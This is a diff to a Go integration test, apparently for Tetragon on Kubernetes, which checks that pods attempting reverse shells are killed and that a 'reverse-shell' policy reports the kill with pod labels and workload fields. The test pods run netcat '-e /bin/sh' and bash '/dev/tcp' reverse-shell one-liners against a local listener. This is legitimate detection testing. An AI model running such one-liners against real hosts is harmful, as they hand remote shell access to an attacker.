@@ -73,17 +73,20 @@ func TestHelmInstall(t *testing.T) {
 func TestReverseShellPodStopped(t *testing.T) {
 	ns := namespace(t, cluster.prefix+"-revshell")
 	l := listen(t, "127.0.0.1:0")
+	labels := map[string]string{"app": "revshell"}
 	for _, p := range []podSpec{
-		{ns: ns, name: "nc-e", image: "busybox", shell: "/bin/sh", hostNetwork: true,
-			script: fmt.Sprintf("nc 127.0.0.1 %d -e /bin/sh; echo rc=$?", l.port())},
-		{ns: ns, name: "bash-dev-tcp", image: "bash", shell: "/bin/bash", hostNetwork: true,
-			script: fmt.Sprintf("bash -i >& /dev/tcp/127.0.0.1/%d 0>&1; echo rc=$?", l.port())},
+		{ns: ns, name: "nc-e", image: "busybox", shell: "/bin/sh", hostNetwork: true, labels: labels,
+			script: fmt.Sprintf("sleep 1; nc 127.0.0.1 %d -e /bin/sh; echo rc=$?", l.port())},
+		{ns: ns, name: "bash-dev-tcp", image: "bash", shell: "/bin/bash", hostNetwork: true, labels: labels,
+			script: fmt.Sprintf("sleep 1; bash -i >& /dev/tcp/127.0.0.1/%d 0>&1; echo rc=$?", l.port())},
 	} {
 		_, logs := run(t, p)
 		if !strings.Contains(logs, "rc=137") {
 			t.Errorf("%s: the shell was not killed: %q", p.name, logs)
 		}
-		ev := waitEvent(t, ns, p.name, map[string]string{"action": "KPROBE_ACTION_SIGKILL", "policy_name": "reverse-shell"})
+		// The pod object as Tetragon's: names, labels, owning workload.
+		ev := waitEvent(t, ns, p.name, map[string]string{"action": "KPROBE_ACTION_SIGKILL", "policy_name": "reverse-shell",
+			"process.pod.pod_labels.app": "revshell", "process.pod.workload": p.name, "process.pod.workload_kind": "Pod"})
 		t.Logf("%s: %v %v in pod %v/%v", p.name, ev["function_name"], ev["action"],
 			field(ev, "process", "pod", "namespace"), field(ev, "process", "pod", "name"))
 	}
